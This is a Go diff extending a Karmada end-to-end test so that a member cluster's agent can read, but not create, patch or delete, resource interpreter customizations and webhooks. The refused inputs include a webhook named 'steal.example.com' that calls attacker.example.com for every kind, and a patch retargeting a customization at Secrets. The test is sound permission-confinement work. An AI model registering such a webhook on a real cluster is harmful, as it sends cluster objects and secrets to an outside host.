@@ -499,6 +499,37 @@ func TestAgentConfinedToItsOwnCluster(t *testing.T) {
 	if got := getCluster(ctx, t, karmadaClient(t), "member1"); got.Labels["e2e-agent"] != "" {
 		t.Errorf("member1 was labelled by member3's agent: %v", got.Labels)
 	}
+	// It reads the resource interpreter's configuration (it interprets its
+	// copies' status), and cannot change it: a customization's Lua runs in
+	// the controller manager and in every other agent.
+	if err := agent.List(ctx, &configv1alpha1.ResourceInterpreterCustomizationList{}); err != nil {
+		t.Fatalf("the agent listing customizations: %v", err)
+	}
+	if err := agent.List(ctx, &configv1alpha1.ResourceInterpreterWebhookConfigurationList{}); err != nil {
+		t.Fatalf("the agent listing interpreter webhooks: %v", err)
+	}
+	ric := &configv1alpha1.ResourceInterpreterCustomization{ObjectMeta: metav1.ObjectMeta{Name: "e2e-agent-lua"},
+		Spec: configv1alpha1.ResourceInterpreterCustomizationSpec{
+			// A kind no test uses: this customization must change nothing.
+			Target: configv1alpha1.CustomizationTarget{APIVersion: "e2e.example.com/v1", Kind: "AgentProbe"},
+			Customizations: configv1alpha1.CustomizationRules{Retention: &configv1alpha1.LocalValueRetention{
+				LuaScript: "function Retain(desiredObj, observedObj)\n  return observedObj\nend"}}}}
+	wantRefused(t, "creating a customization", agent.Create(ctx, ric))
+	admin := karmadaClient(t)
+	if err := admin.Create(ctx, ric.DeepCopy()); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { deleteAll(t, admin, ric) })
+	wantRefused(t, "rewriting a customization", agent.Patch(ctx, ric.DeepCopy(),
+		client.RawPatch(types.MergePatchType, []byte(`{"spec":{"target":{"kind":"Secret","apiVersion":"v1"}}}`))))
+	wantRefused(t, "deleting a customization", agent.Delete(ctx, ric.DeepCopy()))
+	wantRefused(t, "registering an interpreter webhook", agent.Create(ctx, &configv1alpha1.ResourceInterpreterWebhookConfiguration{
+		ObjectMeta: metav1.ObjectMeta{Name: "e2e-agent-hook"},
+		Webhooks: []configv1alpha1.ResourceInterpreterWebhook{{Name: "steal.example.com",
+			ClientConfig: admissionregistrationv1.WebhookClientConfig{URL: ptr.To("https://attacker.example.com/interpret")},
+			Rules: []configv1alpha1.RuleWithOperations{{Operations: []configv1alpha1.InterpreterOperation{configv1alpha1.InterpreterOperationAll},
+				Rule: configv1alpha1.Rule{APIGroups: []string{"*"}, APIVersions: []string{"*"}, Kinds: []string{"*"}}}},
+			InterpreterContextVersions: []string{"v1alpha1"}}}}))
 }
 
 // A tenant with rights in one namespace stays there: its OverridePolicy
